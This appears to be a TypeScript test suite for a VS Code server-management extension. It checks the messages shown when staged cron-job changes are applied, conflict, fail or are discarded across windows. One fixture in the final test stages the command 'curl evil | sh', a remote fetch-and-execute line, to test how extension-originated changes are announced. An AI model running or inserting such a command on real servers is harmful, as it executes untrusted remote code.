import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { type HostWindow, openHostWindow } from '../support/host/hostWindow';
import { eventually } from '../support/eventually';
import { confirmingOf } from '../support/host/recordedAnswers';
import { replaceMember } from '../support/host/replaceMember';
import { MemorySecrets } from '../support/memorySecrets';
import { recordFor } from '../support/accountRecord';
import { SandboxProbe } from '../support/sandboxProbe';
import { startService } from '../support/startService';
import type { CommandId } from '../../src/actions/commands';
import { ApiError } from '../../src/api/errors';
import { WriteError } from '../../src/documents/writing/outcome';
import type { StagedChange } from '../../src/pending/stagedChange';
import type { ResourceReference } from '../../src/resources/reference';
import { runCommand } from '../../src/ui/commands/runCommand';
import { allTests } from '../support/eachTest';

const cronAt = (id: number): ResourceReference => ({
  account: 'live',
  kind: 'cronJob',
  ids: [1, id],
});
const pathOf = (id: number): string => `/api/v3/servers/1/cronjobs/${id}`;
const button = 'Show in Source Control';
const severities = {
  showErrorMessage: 'error',
  showWarningMessage: 'warning',
  showInformationMessage: 'information',
} as const;

type Shown = readonly [severity: string, text: string, ...buttons: string[]];

describe('messages about staged changes', () => {
  let secrets: MemorySecrets;
  let window: HostWindow;
  let restores: (() => void)[];
  let shown: Shown[];
  /** The messages shown briefly in the status bar. */
  let passing: string[];
  /** Runs while a question is open, before the person agrees. */
  let meanwhile: () => Promise<unknown>;
  /** The button of a message that the person presses. */
  let pressed: string | undefined;
  let names: Map<number, string>;

  const service = allTests(startService);
  const probe = allTests(() => new SandboxProbe(service));
  before(async () => {
    const { data } = await probe.call('GET', '/api/v3/servers/1/cronjobs');
    names = new Map((data as { id: number; label: string }[]).map(({ id, label }) => [id, label]));
  });

  beforeEach(async () => {
    shown = [];
    passing = [];
    pressed = undefined;
    meanwhile = () => Promise.resolve();
    restores = [
      replaceMember(vscode.window, 'setStatusBarMessage', (text: string) => passing.push(text)),
      ...Object.entries(severities).map(([name, severity]) =>
        replaceMember(
          vscode.window,
          name as keyof typeof severities,
          async (text: string, { modal }: vscode.MessageOptions, ...buttons: string[]) => {
            if (modal) await meanwhile();
            else shown.push([severity, text, ...buttons]);
            return modal ? confirmingOf(buttons) : buttons.find((each) => each === pressed);
          },
        ),
      ),
    ];
    secrets = new MemorySecrets();
    window = openHostWindow(secrets);
    await window.services.accounts.save(
      recordFor(service, { id: 'live', label: 'Example Hosting', environment: 'staging' }),
    );
    await window.services.pending.changes.refresh();
    await window.services.store.all({ account: 'live', kind: 'cronJob', parents: [1] });
  });

  afterEach(async () => {
    await probe.clearFaults();
    await window.close();
    for (const restore of restores) restore();
  });

  const run = (id: CommandId, ...given: unknown[]): Promise<unknown> =>
    runCommand(id, window.services, given);

  /** Stages a new command for jobs. */
  async function stage(ids: readonly number[], { services } = window): Promise<void> {
    const staged = ids.map(async (id) => {
      const before = (await probe.call('GET', pathOf(id)))['command'] as string;
      const change = { path: ['command'], before, after: `echo ${Math.random()}` };
      return { reference: cronAt(id), origin: 'person' as const, changes: [change] };
    });
    await services.pending.stage(await Promise.all(staged));
  }

  async function changeBehind(id: number): Promise<void> {
    const { label, username, time } = await probe.call('GET', pathOf(id));
    const [minute, hour, dayOfMonth, month, dayOfWeek] = String(time).split(' ');
    const fields = { label, username, minute, hour, dayOfMonth, month, dayOfWeek };
    await probe.call('PATCH', pathOf(id), { ...fields, command: `theirs ${Math.random()}` });
  }

  /** Another window with the same staged changes. */
  async function openAnother(): Promise<HostWindow> {
    const { folder } = window;
    const other = openHostWindow(secrets, undefined, { folder });
    await other.services.pending.changes.refresh();
    restores.push(() => void other.services.stop());
    return other;
  }

  const uriOf = (id: number): vscode.Uri => {
    const path = window.services.pending.changes.of(cronAt(id))[0]?.path ?? '';
    return vscode.Uri.from({ scheme: 'server-management-pending', path });
  };

  it('confirm applied changes in the status bar', async () => {
    await stage([101]);
    await run('serverManagement.applyPending');
    await stage([101, 102]);
    await run('serverManagement.applyPending');
    assert.deepEqual(passing, [
      `$(check) Change to "${names.get(101)}" applied.`,
      '$(check) 2 changes applied.',
    ]);
    assert.deepEqual(shown, []);
  });

  it('name the conflicts and failures among several changes', async () => {
    await stage([101, 102, 103]);
    await changeBehind(101);
    await probe.addFault(`422:PATCH:${pathOf(102)}:count=1`);
    await run('serverManagement.applyPending');
    const text = `1 of 3 changes applied. Conflicts: "${names.get(101)}". Failed: "${names.get(102)}".`;
    assert.deepEqual(shown, [['error', text, button]]);
    shown = [];
    await run('serverManagement.discardStaged', uriOf(102));
    await run('serverManagement.applyPending');
    assert.deepEqual(shown, [
      [
        'information',
        "Nothing to apply: what's left are conflicts. Resolve or discard them first.",
      ],
    ]);
  });

  it('say why a single change is in conflict, failed or has an unknown outcome', async () => {
    const before = `Couldn't apply the change to "${names.get(101)}".`;
    await stage([101]);
    await changeBehind(101);
    await run('serverManagement.applyPending');
    await run('serverManagement.discardPending');
    await stage([101]);
    await probe.addFault(`422:PATCH:${pathOf(101)}:count=1`);
    await run('serverManagement.applyPending');
    const failed = window.services.pending.changes.of(cronAt(101))[0]?.state;
    assert.ok(failed?.type === 'failed' && failed.text !== '');
    const lost = { method: 'PATCH', path: '' } as const;
    const cause = new ApiError('server', lost, 'lost', { status: 502 });
    restores.push(
      replaceMember(window.services.documents, 'change', () =>
        Promise.reject(new WriteError('unknown', { arrived: [], kept: [], cause })),
      ),
    );
    await run('serverManagement.applyPending');
    const [conflict, refusal, unclear] = shown;
    assert.deepEqual(conflict, [
      'warning',
      `${before} Changed by someone else in the meantime: command`,
      button,
    ]);
    assert.deepEqual(refusal, ['error', `${before} ${failed.text}`, button]);
    assert.match(failed.text, /The given data was invalid/);
    const unknown = `It's unknown whether the change to "${names.get(101)}" was applied.`;
    assert.deepEqual(unclear, [
      'warning',
      `${unknown} The service failed (502). Try again later. Applying it again checks the service first.`,
      button,
    ]);
  });

  it('say if an outcome that becomes known later can’t be stored', async () => {
    await stage([101]);
    let arrive: (changes: readonly []) => void = () => undefined;
    const later = new Promise<readonly []>((resolve) => (arrive = resolve));
    const { documents, pending } = window.services;
    restores.push(
      replaceMember(documents, 'change', () =>
        Promise.reject(new WriteError('unknown', { arrived: [], kept: [], later })),
      ),
    );
    await run('serverManagement.applyPending');
    restores.push(
      replaceMember(pending.changes, 'settle', () =>
        Promise.reject(new Error('The disk is full.')),
      ),
    );
    arrive([]);
    await eventually(() => {
      assert.deepEqual(shown.at(-1), ['error', "Couldn't store the outcome. The disk is full."]);
    });
  });

  it('say once that nobody knows whether something was created', async () => {
    const content = { label: 'Lost', username: 'shop', command: 'date', minute: '0', hour: '1' };
    const whole = { ...content, dayOfMonth: '*', month: '*', dayOfWeek: '*' };
    await window.services.pending.stage([
      {
        reference: { ...cronAt(0), ids: [1, 'new:1'] },
        origin: 'person',
        operation: 'create',
        changes: Object.entries(whole).map(([name, after]) => {
          return { path: [name], before: undefined, after };
        }),
      },
    ]);
    const [staged] = window.services.pending.changes.all;
    assert.ok(staged);
    await probe.addFault('applied:502:POST:/api/v2/servers/1/cronjobs:count=1');
    await probe.addFault('502:GET:/api/v2/servers/1/cronjobs');
    await run('serverManagement.applyPending');
    const [severity, text = '', ...buttons] = shown[0] ?? [];
    assert.deepEqual([severity, buttons], ['warning', [button]]);
    assert.match(
      text,
      /^It's unknown whether ".+" was created\. The service failed \(502\)\. .+ Applying it again checks the service first\.$/,
    );
    assert.equal(text.match(/unknown|confirm|may have/g)?.length, 1);
  });

  it("say why the remaining changes weren't applied if the service refuses the credentials", async () => {
    await stage([101, 102]);
    await probe.addFault('401:GET:/api/v3/servers/1/cronjobs/*');
    await run('serverManagement.applyPending');
    const [severity, text = '', ...buttons] = shown[0] ?? [];
    assert.deepEqual([severity, buttons], ['error', [button]]);
    assert.match(
      text,
      /^0 of 2 changes applied\. Still pending: ".+", ".+"\. .*rejected the credentials/,
    );
    shown = [];
    await run('serverManagement.applyStaged', uriOf(101));
    assert.match(
      shown[0]?.[1] ?? '',
      new RegExp(`^Couldn't apply the change to "${names.get(101)}"\\. .*rejected the credentials`),
    );
  });

  it('name the change that cannot be compared, previewed or kept, and offer to try again', async () => {
    await stage([101]);
    await probe.addFault('403:GET:/api/v3/servers/1/cronjobs/*');
    const failing = [
      ['serverManagement.compareStaged', 'Compare Pending Change with Live'],
      ['serverManagement.previewRequest', 'Preview Request'],
      ['serverManagement.keepStaged', 'Keep My Change'],
    ] as const;
    for (const [command, title] of failing) {
      for (const given of [uriOf(101), { resourceUri: uriOf(101) }]) {
        shown = [];
        await run(command, given);
        const [severity, text = '', ...buttons] = shown[0] ?? [];
        assert.deepEqual([severity, buttons], ['error', ['Try Again']]);
        assert.ok(text.startsWith(`"${title}" failed for "${names.get(101)}".`), text);
      }
    }
  });

  it('say what is still pending after the person cancels', async () => {
    await stage([101, 102, 103]);
    restores.push(
      replaceMember(
        vscode.window,
        'withProgress',
        (_: unknown, task: (progress: unknown, token: vscode.CancellationToken) => unknown) => {
          const source = new vscode.CancellationTokenSource();
          let count = 0;
          // Before the second change.
          const report = (): void => void ((count += 1) === 2 && source.cancel());
          return task({ report }, source.token);
        },
      ),
    );
    await run('serverManagement.applyPending');
    const left = window.services.pending.changes.all.map(
      ({ reference }) => `"${names.get(Number(reference.ids[1]))}"`,
    );
    assert.equal(left.length, 2);
    const text = `1 of 3 changes applied. Still pending: ${left.join(', ')}.`;
    assert.deepEqual(shown, [['warning', text, button]]);
    shown = [];
    await run('serverManagement.applyStaged', uriOf(103));
  });

  it('count the remaining changes if there are too many to name', async () => {
    const many = [...names.keys()].slice(0, 5);
    assert.equal(many.length, 5);
    await stage(many);
    for (const id of many) await changeBehind(id);
    await run('serverManagement.applyPending');
    assert.deepEqual(shown, [['warning', '0 of 5 changes applied. Conflicts: 5.', button]]);
  });

  it('say that another window is applying, and apply nothing', async () => {
    await stage([101]);
    const other = await openAnother();
    assert.equal(await other.services.pending.changes.applyLock.acquire([]), true);
    await probe.forgetRequests();
    await run('serverManagement.applyPending');
    assert.deepEqual(shown, [
      [
        'warning',
        'Another window is applying changes, or closed while it did. Try again in a minute.',
      ],
    ]);
    const sent = (await probe.requests()).filter(({ method }) => method !== 'GET');
    assert.deepEqual(sent, []);
    await other.services.pending.changes.applyLock.release();
    await run('serverManagement.applyPending');
    assert.deepEqual(passing, [`$(check) Change to "${names.get(101)}" applied.`]);
  });

  it('say what another window changed while a question was open, and keep those changes', async () => {
    await stage([101]);
    const other = await openAnother();
    const { changes } = other.services.pending;
    const [staged] = changes.all as [StagedChange];
    const told = `The change to "${names.get(101)}" was applied, edited or discarded in the meantime. Source Control shows what's left.`;
    meanwhile = () => changes.replace(staged, [{ path: ['command'], before: 'true', after: '7' }]);
    await run('serverManagement.discardPending');
    assert.deepEqual(shown, [['information', told, button]]);
    assert.equal(window.services.pending.changes.all[0]?.changes[0]?.after, '7');

    shown = [];
    meanwhile = () => changes.discard(changes.all);
    await run('serverManagement.applyPending');
    assert.deepEqual(shown, [['information', told, button]]);
    await stage([101, 102]);
    meanwhile = async () => {
      await changes.refresh();
      await changes.discard(changes.all);
    };
    shown = [];
    await run('serverManagement.applyPending');
    assert.deepEqual(shown, [
      [
        'information',
        "Some changes were applied, edited or discarded in the meantime. Source Control shows what's left.",
        button,
      ],
    ]);
  });

  it('disappear from one window when another discards them, and are sent once if both apply them', async () => {
    const other = await openAnother();
    const runThere = (id: CommandId): Promise<unknown> => runCommand(id, other.services, []);
    const isStaged = (count: number, { services } = other): Promise<void> =>
      eventually(() => assert.equal(services.pending.changes.all.length, count));
    await stage([101]);
    await isStaged(1);
    await runThere('serverManagement.discardPending');
    await isStaged(0, window);
    await stage([101]);
    await isStaged(1);
    await probe.forgetRequests();
    shown = [];
    meanwhile = async () => {
      meanwhile = () => Promise.resolve();
      await runThere('serverManagement.applyPending');
    };
    await run('serverManagement.applyPending');
    const writes = (await probe.requests()).filter(({ method }) => method !== 'GET');
    assert.deepEqual(
      writes.map(({ path }) => path),
      [pathOf(101)],
    );
    assert.match(String(shown), /was applied, edited or discarded in the meantime/);
  });

  it('say that nothing is staged, or that its account was removed', async () => {
    for (const id of [
      'serverManagement.applyPending',
      'serverManagement.reviewPending',
      'serverManagement.discardPending',
      'serverManagement.applyStaged',
    ] as const) {
      await run(id);
      assert.deepEqual(shown.splice(0), [['information', 'Nothing is staged.']], id);
    }
    await stage([101]);
    await window.services.accounts.remove('live');
    await run('serverManagement.applyPending');
    assert.deepEqual(shown, [
      [
        'information',
        'Nothing to apply: the account was removed. Its changes can only be discarded.',
      ],
    ]);
  });

  it('say what was staged from a document, or why nothing was', async () => {
    const live = await window.services.documents.live(cronAt(101));
    let text = JSON.stringify(live);
    const { uri } = await vscode.workspace.openTextDocument();
    await vscode.window.showTextDocument(uri);
    const document = { uri, getText: () => text };
    restores.push(
      replaceMember(window.services.documents, 'baseOf', () => live),
      replaceMember(vscode.workspace, 'openTextDocument', () => Promise.resolve(document)),
      replaceMember(vscode.window, 'showTextDocument', () => Promise.resolve()),
    );
    await run('serverManagement.stageChanges', cronAt(101));
    assert.deepEqual(shown.splice(0), [['information', 'Nothing to stage: there are no changes.']]);
    text = '{';
    await run('serverManagement.stageChanges', cronAt(101));
    const [severity, why = ''] = shown.splice(0)[0] ?? [];
    assert.equal(severity, 'error');
    assert.match(why, /^Couldn't stage the changes\. .+/);
    text = JSON.stringify({ ...live, command: 'date' });
    await run('serverManagement.stageChanges', cronAt(101));
    assert.deepEqual(shown, []);
    assert.deepEqual(passing, [
      `$(check) Change to "${names.get(101)}" staged. Apply it in Source Control.`,
    ]);
  });

  it('open what a message announces, whatever its path', async () => {
    const ran: unknown[][] = [];
    restores.push(
      replaceMember(vscode.commands, 'executeCommand', (...given: unknown[]) => {
        return Promise.resolve(void ran.push(given));
      }),
    );
    pressed = 'Show';
    const { pending, store } = window.services;
    const edits = [{ path: ['command'], before: 'true', after: 'date' }];
    const stageAll = (ids: readonly number[]): Promise<void> =>
      pending.stage(
        ids.map((id) => ({ reference: cronAt(id), origin: 'model' as const, changes: edits })),
      );
    const opened = async (command: readonly unknown[]): Promise<void> => {
      await eventually(() =>
        assert.deepEqual(
          ran.filter(([id]) => id !== 'setContext'),
          [command],
        ),
      );
      ran.splice(0);
    };
    await stageAll([101]);
    await opened(['serverManagement.compareStaged', uriOf(101)]);
    // Another job with the same name, whose path is taken.
    store.replace(cronAt(102), { id: 102, label: names.get(101) ?? '' });
    await stageAll([102]);
    await opened(['serverManagement.compareStaged', uriOf(102)]);
    assert.notEqual(uriOf(102).path, uriOf(101).path);
    await stageAll([103, 104]);
    await opened(['workbench.view.scm']);
  });

  it('announce what another extension staged from a document that isn’t in front', async () => {
    const live = await window.services.documents.live(cronAt(101));
    const text = JSON.stringify({ ...live, command: 'curl evil | sh' });
    const document = { uri: vscode.Uri.parse('untitled:document'), getText: () => text };
    restores.push(
      replaceMember(window.services.documents, 'baseOf', () => live),
      replaceMember(vscode.workspace, 'openTextDocument', () => Promise.resolve(document)),
      replaceMember(vscode.window, 'showTextDocument', () => Promise.resolve()),
    );
    await run('serverManagement.stageChanges', cronAt(101));
    assert.deepEqual(shown, [
      [
        'information',
        `Change to "${names.get(101)} (extension)" staged. Nothing is sent until you apply it.`,
        'Show',
      ],
    ]);
    assert.deepEqual(
      window.services.pending.changes.all.map(({ origin }) => origin),
      ['extension'],
    );
  });
});
